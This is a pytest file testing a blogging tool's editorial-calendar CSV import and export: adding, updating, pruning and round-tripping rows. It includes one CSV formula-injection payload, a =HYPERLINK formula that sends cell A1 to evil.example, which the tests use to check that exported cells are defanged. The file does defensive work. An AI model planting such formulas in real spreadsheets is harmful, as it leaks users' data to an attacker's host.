"""``calendar --import`` on a copy of the demo: it adds and updates rows, deletes only with --prune.

Every test runs the real command line (``python -m mainstreet calendar``) on a
copy of the demo's content/ and calendar/, and reads the calendar files and
reports/calendar.csv back with the csv module.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest
from conftest import DEMO_NOW, ROOT, run_build

from contract.spreadsheet import FORMULA_STARTS

COLUMNS = ["Date", "Title", "Slug", "Keyword", "Segment", "Stage", "Channels", "Status", "Owner"]
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.fixture
def demo(tmp_path) -> Path:
    """A copy of the demo's content and calendar with its own settings file."""
    project = tmp_path / "demo"
    for name in ("content", "calendar"):
        shutil.copytree(ROOT / name, project / name)
    # not pelicanconf.py: Pelican loads a settings file under its own name
    (project / "democonf.py").write_text(
        f"import sys\nsys.path.insert(0, {str(ROOT)!r})\nfrom pelicanconf import *  # noqa\n"
        f"PATH = {str(project / 'content')!r}\n",
        encoding="utf-8",
    )
    return project


def calendar(project: Path, *extra: str):
    """``python -m mainstreet calendar`` on the demo copy, as of the demo's moment."""
    return run_build(
        project / "democonf.py",
        project / "output",
        now=DEMO_NOW,
        reports=project / "reports",
        command=["calendar", *extra],
    )


def write_sheet(path: Path, rows: list[dict]) -> Path:
    columns = list(dict.fromkeys(key for row in rows for key in row))
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, columns)
        writer.writeheader()
        writer.writerows(rows)
    return path


def read_sheet(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def row_lines(path: Path) -> list[str]:
    """The plan rows of a calendar file as written (after the header and |---| row)."""
    lines = path.read_text(encoding="utf-8").splitlines()
    header = next(n for n, line in enumerate(lines) if line.startswith("| Date |"))
    return [line for line in lines[header + 2 :] if line.startswith("|")]


def test_a_one_row_csv_adds_its_row_and_keeps_the_seven_it_does_not_mention(demo):
    plan_2027 = demo / "calendar" / "2027.md"
    before = plan_2027.read_text(encoding="utf-8")
    assert len(row_lines(plan_2027)) == 7
    sheet = write_sheet(
        demo / "idea.csv",
        [dict(zip(COLUMNS, ["2027-03-03", "Spring Hot Cross Buns", "hot-cross-buns", "hot cross buns", "families",
                            "awareness", "blog", "idea", "Ana"], strict=True))],
    )
    result = calendar(demo, "--import", str(sheet))
    assert result.returncode == 0, result.stderr
    after = plan_2027.read_text(encoding="utf-8")
    assert after.startswith(before.rstrip("\n") + "\n")  # every line kept exactly, prose and all
    assert row_lines(plan_2027)[-1] == (
        "| 2027-03-03 | Spring Hot Cross Buns | hot-cross-buns | hot cross buns | families | awareness | blog | idea | Ana |"
    )
    assert len(row_lines(plan_2027)) == 8
    assert "calendar/2027.md: 1 added, 0 updated, 0 unchanged, 0 removed" in result.stdout
    assert "7 row(s) not in the CSV kept" in result.stdout
    slugs = {r["Slug"] for r in read_sheet(demo / "reports" / "calendar.csv")}
    assert {"hot-cross-buns", "new-year-bread-resolutions", "winter-wedding-cakes"} <= slugs


def test_a_one_row_csv_naming_2026_updates_that_row_and_keeps_the_seventeen_others(demo):
    plan_2026 = demo / "calendar" / "2026.md"
    before = plan_2026.read_text(encoding="utf-8").splitlines()
    result = calendar(demo)
    assert result.returncode == 0, result.stderr
    exported = read_sheet(demo / "reports" / "calendar.csv")
    row = next(r for r in exported if r["Slug"] == "christmas-morning-breads")
    assert row["Calendar file"] == "calendar/2026.md"
    line = int(row["Calendar line"])
    row["Owner"] = "Priya"
    sheet = write_sheet(demo / "one.csv", [row])

    result = calendar(demo, "--import", str(sheet))
    assert result.returncode == 0, result.stderr
    after = plan_2026.read_text(encoding="utf-8").splitlines()
    assert len(after) == len(before) and len(row_lines(plan_2026)) == 18
    assert [n for n, (old, new) in enumerate(zip(before, after, strict=True), 1) if old != new] == [line]
    assert after[line - 1].endswith("| blog, newsletter, instagram | planned | Priya |")
    assert "calendar/2026.md: 0 added, 1 updated, 0 unchanged, 0 removed" in result.stdout
    assert "17 row(s) not in the CSV kept" in result.stdout
    assert (demo / "calendar" / "2027.md").read_bytes() == (ROOT / "calendar" / "2027.md").read_bytes()


def test_an_unchanged_row_is_counted_and_a_known_slug_without_a_calendar_file_updates_its_row(demo):
    plan_2027 = demo / "calendar" / "2027.md"
    before = plan_2027.read_bytes()
    same = dict(zip(COLUMNS, ["2027-01-06", "New Year Bread Resolutions: Bake One Loaf a Week",
                              "new-year-bread-resolutions", "bread resolutions", "all", "awareness",
                              "blog, newsletter, facebook", "planned", "Ana"], strict=True))
    sheet = write_sheet(demo / "same.csv", [same])
    result = calendar(demo, "--import", str(sheet))
    assert result.returncode == 0, result.stderr
    assert "calendar/2027.md is unchanged: 0 added, 0 updated, 1 unchanged, 0 removed" in result.stdout
    assert plan_2027.read_bytes() == before

    # A hand-made sheet dated in 2026 for a row of 2027.md: the row is updated where it lives.
    moved = dict(same, Date="2026-12-30")
    result = calendar(demo, "--import", str(write_sheet(demo / "moved.csv", [moved])))
    assert result.returncode == 0, result.stderr
    assert "calendar/2027.md: 0 added, 1 updated, 0 unchanged, 0 removed" in result.stdout
    assert "| 2026-12-30 | New Year Bread Resolutions" in plan_2027.read_text(encoding="utf-8")
    assert len(row_lines(plan_2027)) == 7
    assert (demo / "calendar" / "2026.md").read_bytes() == (ROOT / "calendar" / "2026.md").read_bytes()


def test_prune_removes_the_rows_the_csv_lacks_and_names_every_one(demo):
    plan_2026 = demo / "calendar" / "2026.md"
    result = calendar(demo)
    assert result.returncode == 0, result.stderr
    exported = read_sheet(demo / "reports" / "calendar.csv")
    keep = next(r for r in exported if r["Slug"] == "holiday-cake-guide")
    doomed = [r for r in exported if r["Calendar file"] == "calendar/2026.md" and r is not keep]
    assert len(doomed) == 17
    sheet = write_sheet(demo / "one.csv", [keep])

    result = calendar(demo, "--import", str(sheet), "--prune")
    assert result.returncode == 0, result.stderr
    for row in doomed:
        assert f"Removed calendar/2026.md:{row['Calendar line']} {row['Slug']}" in result.stdout
    assert "calendar/2026.md: 0 added, 0 updated, 1 unchanged, 17 removed" in result.stdout
    text = plan_2026.read_text(encoding="utf-8")
    assert row_lines(plan_2026) == [line for line in text.splitlines() if "| holiday-cake-guide |" in line]
    assert text.startswith("# Editorial calendar 2026\n\nOur blog plan for 2026")  # prose and header stay
    assert "| Date | Title | Slug |" in text
    # Only the file the CSV names is pruned.
    assert (demo / "calendar" / "2027.md").read_bytes() == (ROOT / "calendar" / "2027.md").read_bytes()


def test_a_wrong_row_writes_nothing_even_with_prune(demo):
    before = {p.name: p.read_bytes() for p in (demo / "calendar").iterdir()}
    sheet = write_sheet(
        demo / "bad.csv",
        [dict(zip(COLUMNS, ["2026-12-31", "New Year's Eve", "nye", "nye", "all", "awareness", "blog", "plannd",
                            "Ana"], strict=True)) | {"Calendar file": "calendar/2026.md"}],
    )
    result = calendar(demo, "--import", str(sheet), "--prune")
    assert result.returncode == 1
    assert "error: bad.csv:2: unknown status 'plannd'" in result.stderr
    assert "Traceback" not in result.stderr
    assert {p.name: p.read_bytes() for p in (demo / "calendar").iterdir()} == before


def test_prune_without_import_is_a_clear_mistake(demo):
    result = calendar(demo, "--prune")
    assert result.returncode == 2
    assert "--prune only works with --import FILE.csv" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (demo / "output").exists()


def test_a_hostile_title_is_neutralised_in_calendar_csv_and_round_trips_byte_identical(demo):
    plan_2026 = demo / "calendar" / "2026.md"
    text = plan_2026.read_text(encoding="utf-8")
    text = text.replace("| Christmas Morning Breads: Panettone, Stollen and Cinnamon Buns |", f"| {HOSTILE_TITLE} |")
    text = text.replace("| baking class gift vouchers | all |", "| +gift vouchers | all |")
    text = text.replace("| planned | Tom |", "| planned | @tom |")
    plan_2026.write_text(text, encoding="utf-8")
    # A post in no calendar row: its title comes into the CSV from the post.
    (demo / "content" / "posts" / "minus-ten.md").write_text(
        "Title: -10% on Rye This Week\nSlug: minus-ten\nDate: 2026-11-02\nCategory: News\n\nA short note about rye.\n",
        encoding="utf-8",
    )
    before = {p.name: p.read_bytes() for p in (demo / "calendar").iterdir()}

    result = calendar(demo)
    assert result.returncode == 0, result.stderr
    csv_path = demo / "reports" / "calendar.csv"
    exported = csv_path.read_bytes()
    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    rows = {r["Slug"]: r for r in read_sheet(csv_path)}
    assert rows["christmas-morning-breads"]["Title"] == "'" + HOSTILE_TITLE
    assert rows["baking-class-gift-vouchers"]["Keyword"] == "'+gift vouchers"
    assert rows["baking-class-gift-vouchers"]["Owner"] == "'@tom"
    assert rows["minus-ten"]["Title"] == "'-10% on Rye This Week"

    result = calendar(demo, "--import", str(csv_path))
    assert result.returncode == 0, result.stderr
    assert "calendar/2026.md is unchanged" in result.stdout and "calendar/2027.md is unchanged" in result.stdout
    assert {p.name: p.read_bytes() for p in (demo / "calendar").iterdir()} == before
    assert csv_path.read_bytes() == exported
